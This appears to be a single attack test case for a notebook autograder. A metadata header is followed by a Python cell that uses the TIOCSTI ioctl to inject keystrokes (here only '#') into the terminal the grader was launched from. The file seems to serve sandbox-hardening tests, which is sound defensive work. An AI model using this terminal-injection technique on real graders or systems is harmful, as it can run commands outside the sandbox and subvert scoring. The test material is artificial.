# ATTACK: terminal_injection
# KIND: cell
# BASE: wrong
# NEEDS: any
# TRIES: Type into the terminal that the grader was started from.
# MUST: Score exactly that of the same notebook without this cell.
# SIGN: TYPED .*
import fcntl, os
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/proc/self/fd/0", "/proc/self/fd/2"):
    try:
        handle = os.open(path, os.O_RDWR | os.O_NOCTTY)
        if os.isatty(handle): fcntl.ioctl(handle, 0x5412, b"#"); print("TYPED", path)
    except OSError: pass
